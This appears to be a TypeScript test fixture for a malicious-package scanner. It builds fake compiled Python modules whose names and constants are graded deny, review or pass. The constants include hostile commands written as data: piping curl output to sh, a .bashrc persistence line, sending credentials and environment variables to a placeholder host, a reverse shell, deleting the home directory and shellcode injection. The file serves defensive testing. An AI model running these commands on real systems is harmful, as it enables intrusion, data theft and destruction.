/** Modules that are only compiled, judged by their names and constants. Their instructions are nothing. */
import { buildPyc, type CodePlan } from './carriers/marshal-writer.js';
import type { Shape } from './malicious.js';

const address = 'https://collect.invalid/u';

function compiled(name: string, tier: Shape['tier'], code: CodePlan, others: Shape['files'] = {}): Shape {
  return { name, tier, files: { 'demo/__init__.py': '', 'demo/core.pyc': buildPyc({ code }), ...others } };
}
const fetchesAndRuns: CodePlan = { names: ['os', 'system'], constants: ['curl http://f.invalid/a.sh | sh'] };

export const compiledHarms: readonly Shape[] = [
  compiled('a command that fetches and runs', 'deny', fetchesAndRuns),
  compiled('the same in a function', 'deny', { constants: [{ name: 'boot', ...fetchesAndRuns }] }),
  compiled('keys of a service', 'deny', {
    names: ['requests', 'post', 'pathlib', 'Path', 'home'],
    constants: [address, '.kaggle', 'kaggle.json'],
  }),
  compiled('all variables, in a function', 'deny', {
    names: ['go'],
    constants: [{ names: ['requests', 'post', 'dict', 'os', 'environ'], constants: [address] }],
  }),
  compiled('code that is fetched', 'deny', {
    names: ['urllib.request', 'exec', 'urlopen', 'read'],
    constants: [address],
  }),
  compiled('a shell on a connection', 'deny', {
    names: ['socket', 'connect', 'os', 'dup2', 'subprocess', 'call'],
    constants: ['198.51.100.7', '/bin/sh'],
  }),
  compiled('a program that is fetched', 'deny', {
    names: ['urllib.request', 'urlretrieve', 'os', 'chmod', 'subprocess', 'Popen'],
    constants: ['http://f.invalid/a', '/tmp/.a'],
  }),
  compiled('a start file', 'deny', {
    names: ['open', 'os', 'path', 'expanduser', 'write'],
    constants: ['~/.bashrc', 'a', 'curl http://f.invalid | sh\n'],
  }),
  compiled('a whole home', 'deny', {
    names: ['shutil', 'rmtree', 'os', 'path', 'expanduser'],
    constants: ['~'],
  }),
  compiled('machine code', 'deny', {
    names: ['ctypes', 'windll', 'kernel32', 'VirtualAlloc', 'RtlMoveMemory', 'CreateThread'],
  }),
  {
    name: 'compiled Python that is named as data',
    tier: 'deny',
    files: { 'demo/__init__.py': '', 'demo/data.bin': buildPyc({ code: fetchesAndRuns }) },
  },
  compiled('a program without source', 'review', { names: ['math', 'pi'], constants: [2] }),
  compiled('a client without source', 'review', {
    names: ['requests', 'get', 'json'],
    constants: ['https://api.invalid/v1/'],
  }),
  compiled('one variable of the environment', 'review', {
    names: ['requests', 'post', 'os', 'environ', 'dict'],
    constants: [address, 'DEMO_TOKEN'],
  }),
  compiled('a folder of its own that is removed', 'review', {
    names: ['shutil', 'rmtree', 'os', 'path', 'join', 'expanduser'],
    constants: ['~', '.cache/demo'],
  }),
  compiled('a module that has its source', 'pass', fetchesAndRuns, { 'demo/core.py': 'X = 1\n' }),
];
